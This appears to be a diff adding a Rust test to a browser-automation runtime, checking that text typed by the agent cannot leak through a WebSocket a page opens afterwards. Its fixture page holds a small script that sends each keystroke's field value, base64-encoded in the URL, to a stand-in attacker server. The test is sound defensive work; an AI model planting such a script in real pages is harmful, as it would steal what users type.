@@ -1418,4 +1418,57 @@ send(); setInterval(send, 300);
         .unwrap_err();
     assert_eq!(refused.code(), ErrorCode::InvalidAction, "{refused}");
     assert!(refused.to_string().contains("WebSocket"), "{refused}");
+
+    // A WebSocket the page opens once the text is in it (its URL alone carries the text): the
+    // document typed into was closed to it before the typing.
+    // (A fresh server: a browser opens one WebSocket at a time to a host, and `/ws` is pending.)
+    let sockets = FixtureServer::start().await.unwrap();
+    let ws = sockets.origin().replacen("http://", "ws://", 1);
+    env.server.html(
+        "/late-socket.html",
+        format!(
+            r#"<!doctype html><title>Late</title><input aria-label=Remark id=p><script>p.addEventListener('input', () => {{ try {{ new WebSocket('{ws}/late/' + btoa(p.value)); }} catch (e) {{}} }});</script>"#
+        ),
+    );
+    crate::open(
+        &env.runtime,
+        &env.session,
+        &env.server.url("/late-socket.html"),
+    )
+    .await
+    .unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Remark").await;
+    let field = o
+        .interactive_elements()
+        .iter()
+        .find(|e| e.name() == "Remark")
+        .unwrap()
+        .element()
+        .as_str()
+        .to_owned();
+    let typed = protocol::validate_extended_action(&serde_json::json!({"type": "type",
+        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": field},
+        "text": "late words", "intent": "t"}))
+    .unwrap();
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &typed,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let late: Vec<String> = sockets
+        .requests()
+        .iter()
+        .filter(|r| r.path.starts_with("/late"))
+        .map(|r| r.path.clone())
+        .collect();
+    assert!(
+        late.is_empty(),
+        "no handshake reached the attacker: {late:?}"
+    );
 }
